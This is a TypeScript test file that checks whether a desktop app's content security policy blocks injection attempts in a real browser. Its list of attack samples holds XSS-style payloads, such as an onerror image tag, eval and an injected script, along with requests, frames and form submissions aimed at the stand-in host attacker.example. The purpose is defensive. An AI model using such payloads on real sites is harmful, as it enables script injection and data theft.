/** The content policy at work in a real browser: what it stops, and that under the desktop's one every screen runs. */
import type { Browser, Page } from 'playwright-core'
import { beforeAll, expect, test } from 'vitest'
import type { Handlers } from '../../src-main/contract/procedures.ts'
import { pageHeaders, readRendererFile } from '../../src-main/hosts/renderer-files.ts'
import { rendererDirectory } from '../../src-main/hosts/local-app.ts'
import { serve } from '../../src-main/hosts/serve.ts'
import { describeInBrowser } from './in-browser.ts'
import { watchProblems, type TestPage } from './page.ts'

/** Each tries to run or load what is not the page's own, and must not get that far. */
const attacks: Readonly<Record<string, string>> = {
  'an inline script': `const script = document.createElement('script')
    script.append('window.ran = true'); document.body.append(script)`,
  'a script of another site': `const script = document.createElement('script')
    script.setAttribute('src', 'https://attacker.example/a.js'); document.body.append(script)`,
  eval: `eval('window.ran = true')`,
  'an event handler': `document.body.setAttribute('onclick', 'window.ran = true'); document.body.click()`,
  'markup of a text': `document.body.innerHTML = '<img src=x onerror="window.ran = true">'`,
  'a new way to make markup': `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
  'a picture of another site': `new Image().src = 'https://attacker.example/a.png'`,
  'a request to another site': `fetch('https://attacker.example/').catch(() => {})`,
  'a socket to another site': `new WebSocket('wss://attacker.example/')`,
  'an inline style': `const style = document.createElement('style')
    style.append('body { color: red }'); document.head.append(style)`,
  'a frame': `const frame = document.createElement('iframe')
    frame.setAttribute('src', 'https://attacker.example/'); document.body.append(frame)`,
  'a form': `const form = document.createElement('form')
    form.action = 'https://attacker.example/'; document.body.append(form); form.submit()`,
}

describeInBrowser('the content policy', {}, ({ app, browser, open }) => {
  let page: Page

  beforeAll(async () => {
    page = (await open()).page
    await page.getByRole('heading', { level: 1 }).waitFor()
    await page.evaluate(() => {
      const breaches: string[] = []
      Object.assign(globalThis, { breaches })
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        breaches.push(effectiveDirective),
      )
    })
  })

  test.each(Object.entries(attacks))('stops %s', async (_name, attack) => {
    const before = await page.evaluate('breaches.length')
    // Later, and not in the debugger's own evaluation, which the policy doesn't bind.
    await page.evaluate(`setTimeout(() => { ${attack} })`)
    await expect.poll(() => page.evaluate('breaches.length')).toBeGreaterThan(Number(before))
    expect(await page.evaluate('window.ran')).toBeUndefined()
  })

  test('every screen runs under the desktop’s policy, which lets the page connect nowhere', async () => {
    const { page: desktop, problems } = await openDesktopPage(browser(), app().handlers)
    for (const name of ['Chat', 'Teach', 'Personalize', 'Assistants', 'Models', 'Settings']) {
      const screens = desktop.getByRole('navigation', { name: 'Screens' })
      await screens.getByRole('link', { name, exact: true }).click()
      await desktop.getByRole('heading', { level: 1 }).waitFor()
    }
    await desktop.getByText(app().dataDirectory).waitFor()
    expect(problems).toEqual([])
  })
})

/**
 * The built page as the desktop host serves it: with that host's headers, under a secure origin (a browser knows no
 * app://), and talking over a port, which here leads to the handlers through the browser's debugger.
 */
async function openDesktopPage(on: Browser, handlers: Handlers): Promise<TestPage> {
  const context = await on.newContext({ userAgent: 'Electron', locale: 'en-US' })
  await context.route('https://veranda.test/**', async (route) => {
    const { pathname } = new URL(route.request().url())
    const file = await readRendererFile(rendererDirectory, pathname)
    if (file === null) return route.fulfill({ status: 404 })
    const headers = { ...pageHeaders([]), 'content-type': file.contentType }
    await route.fulfill({ headers, body: file.bytes })
  })
  const page = await context.newPage()
  page.setDefaultTimeout(10_000)
  const problems = watchProblems(page)
  let receive: (message: unknown) => void = () => {}
  await page.exposeFunction('sendToHost', (message: unknown) => receive(message))
  await page.addInitScript(() => {
    const { port1, port2 } = new MessageChannel()
    const host = globalThis as unknown as { sendToHost: (message: unknown) => void }
    port1.addEventListener('message', ({ data }: MessageEvent<unknown>) => host.sendToHost(data))
    port1.start()
    Object.assign(globalThis, { sendToPage: (message: unknown) => port1.postMessage(message) })
    addEventListener('load', () => postMessage('veranda-channel', location.origin, [port2]))
  })
  await page.goto('https://veranda.test/')
  serve(handlers, {
    send: (message) =>
      void page.evaluate((text) => Reflect.get(globalThis, 'sendToPage')(text), message as unknown),
    receive: (listener) => (receive = listener),
    closed: (listener) => void page.once('close', listener),
  })
  return { page, problems }
}
